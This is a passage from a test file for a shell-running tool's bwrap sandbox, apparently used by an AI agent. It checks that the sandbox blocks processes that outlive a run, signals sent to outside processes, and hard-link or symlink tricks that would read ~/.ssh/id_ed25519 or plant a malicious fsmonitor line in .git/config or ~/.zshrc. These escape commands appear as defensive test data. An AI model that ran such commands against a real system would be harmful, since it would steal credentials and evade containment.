    expect(ran(await fx().run(`kill -0 ${shellPid}; echo "kill0 $?"`)).stdout.data).toBe('kill0 0\n');

    await fx().sandbox('workspace', proj);
    const d = ran(
      await fx().run(
        [
          ...[shellPid, helperPid, tmuxPid].map((p) => `kill -0 ${p}; echo "kill0 ${p} $?"`),
          `kill -TERM ${shellPid}; echo "term $?"`,
          `cat /proc/${shellPid}/environ /proc/${shellPid}/cmdline >/dev/null; echo "proc $?"`,
          `echo "pids $(ls -d /proc/[0-9]* | wc -l)"`,
        ].join('\n'),
      ),
    );
    observed(expect.getState().currentTestName ?? '', d);
    for (const p of [shellPid, helperPid, tmuxPid]) expect(d.stdout.data).toMatch(new RegExp(`^kill0 ${p} [1-9]`, 'm'));
    expect(d.stdout.data).toMatch(/^term [1-9]/m);
    expect(d.stdout.data).toMatch(/^proc [1-9]/m);
    expect(Number(/^pids (\d+)/m.exec(d.stdout.data)?.[1])).toBeLessThan(10);
    expect(processAlive(shellPid) && processAlive(tmuxPid) && processAlive(helperPid!)).toBe(true);
    expect(await pane.run('echo alive')).toBe('alive');
  });

  it('a setsid sleep 600 & (or nohup, or a double fork) left behind is gone when the run ends (off: it stays)', async () => {
    const proj = fx().project();
    const durations = [uniqueSleep(), uniqueSleep(), uniqueSleep()];
    const script = (ds: string[]): string =>
      [
        `setsid sleep ${ds[0]} </dev/null >/dev/null 2>&1 &`,
        `nohup sleep ${ds[1]} </dev/null >/dev/null 2>&1 &`,
        `( setsid sleep ${ds[2]} </dev/null >/dev/null 2>&1 & ) &`,
        'sleep 0.2; echo left',
      ].join('\n');

    const offDurations = [uniqueSleep(), uniqueSleep(), uniqueSleep()];
    await fx().sandbox('off', proj);
    ran(await fx().run(script(offDurations)));
    const survivors = offDurations.flatMap((d) => processesWith(`sleep ${d}`));
    expect(survivors.length, 'off: the setsid sleep survives its run').toBeGreaterThan(0);
    for (const pid of survivors) killHard(pid);

    await fx().sandbox('workspace', proj);
    expect(ran(await fx().run(script(durations))).stdout.data).toBe('left\n');
    const left = [...new Set(durations.flatMap((d) => processesWith(`sleep ${d}`)))];
    if (left.length > 0) {
      // Say what was left and whether it went soon after: bwrap's outer process exits as soon as
      // its init reports the first child's status, before the kernel has ended the namespace's
      // other processes, so a run can be reported ended while its leftovers still run.
      const ps = psOf(left);
      const later = await waitUntil(() => left.every((pid) => !processAlive(pid)), 2000).then(
        () => 'all gone within 2 s',
        () => 'still there 2 s later',
      );
      for (const pid of left) killHard(pid);
      expect.fail(`left behind when the run ended (${later}):\n${ps}`);
    }
  });

  it('a helper killed with SIGKILL takes its sandboxed run (and what the run left in its own session) with it', async () => {
    const { pane: extra, listing } = await fx().extraPane();
    try {
      const proj = fx().project();
      await extra.run(`cd '${proj}' && TMUX_RUN_SANDBOX=workspace`);
      const [detached, inGroup] = [uniqueSleep(), uniqueSleep()];
      const s = await startRun(
        fx().mcp.client,
        listing,
        `setsid sleep ${detached} </dev/null >/dev/null 2>&1 &\nsleep ${inGroup}`,
        {
          wait_ms: 0,
        },
      );
      expect(s.pending, JSON.stringify(s)).toBeDefined();
      // The sleeps themselves: bwrap's own argv holds the script, so matching it would kill the
      // helper before the sandbox exists, and the test would not test a running sandbox.
      await waitUntil(
        () => sleepsOf(detached).length > 0 && sleepsOf(inGroup).length > 0,
        10_000,
        'the sandboxed sleeps to start',
      );
      const shellPid = await extra.shellPid();
      const [helperPid] = helperChildren(shellPid);
      expect(helperPid).toBeDefined();
      killHard(helperPid!);
      await waitUntil(
        () => [detached, inGroup].every((d) => processesWith(`sleep ${d}`).length === 0),
        10_000,
        'the sandboxed run to end with its helper',
      ).catch((e: Error) => {
        const left = [...new Set([detached, inGroup].flatMap((d) => processesWith(`sleep ${d}`)))];
        const ps = left.length === 0 ? '' : psOf(left);
        for (const pid of left) killHard(pid);
        const helper = `helper ${helperPid} ${processAlive(helperPid!) ? 'still alive' : 'gone'}`;
        throw new Error(`${e.message}; ${helper}; still running:\n${ps}`);
      });
    } finally {
      await extra.kill();
    }
  });
});

describe('sandbox: hard links', () => {
  it('a hard link made in the cwd to ~/.zshrc or to the repository’s .git/config opens no way', async () => {
    const { server } = fx();
    const repo = fx().project('repo');
    gitInit(server, repo);
    const zshrc = join(server.home, '.zshrc');
    const before = [textOf(zshrc), textOf(join(repo, '.git', 'config'))];
    await fx().sandbox('workspace', repo);
    const d = ran(
      await fx().run(
        [
          `ln '${zshrc}' z && echo evil >> z; echo "zshrc $?"`,
          `ln .git/config c && echo '[core] fsmonitor = evil' >> c; echo "config $?"`,
          'true',
        ].join('\n'),
      ),
    );
    observed(expect.getState().currentTestName ?? '', d);
    expect([textOf(zshrc), textOf(join(repo, '.git', 'config'))]).toEqual(before);
  });
});

describe('sandbox: symlinks', () => {
  it('a symlink in the cwd pointing at ~/.ssh, ~/.zshrc or outside opens no way (off: it does)', async () => {
    const { server, secrets } = fx();
    const proj = fx().project();
    const outside = join(server.home, fresh('outside'));
    mkdirSync(outside);
    symlinkSync(join(server.home, '.ssh'), join(proj, 'ssh'));
    symlinkSync(outside, join(proj, 'out'));
    symlinkSync(join(server.home, '.zshrc'), join(proj, 'zrc'));
    const zshrcBefore = textOf(join(server.home, '.zshrc'));
    const script = [
      'cat ssh/id_ed25519',
      'echo x > out/planted; echo "out $?"',
      `ln -s ~/.ssh/id_ed25519 mine && cat mine`,
      `ln -s / root && echo x > "root${outside}/planted2"; echo "root $?"`,
      'true',
    ].join('\n');
    const secretLine = secrets.keyText.split('\n')[1] as string;

    await fx().sandbox('off', proj);
    expect(out(ran(await fx().run(script)))).toContain(secretLine);
    expect(existsSync(join(outside, 'planted'))).toBe(true);
    rmSync(join(outside, 'planted'));
    rmSync(join(outside, 'planted2'));
    rmSync(join(proj, 'mine'));
    rmSync(join(proj, 'root'));

    await fx().sandbox('workspace', proj);
    const d = ran(await fx().run(`${script}\necho 'evil' >> zrc; echo "zrc $?"`));
    observed(expect.getState().currentTestName ?? '', d);
    expect(out(d)).not.toContain(secretLine);
    expect(existsSync(join(outside, 'planted'))).toBe(false);
    expect(existsSync(join(outside, 'planted2'))).toBe(false);
    expect(textOf(join(server.home, '.zshrc'))).toBe(zshrcBefore);
    expect(d.stdout.data).toMatch(/^out [1-9]/m);
  });
});
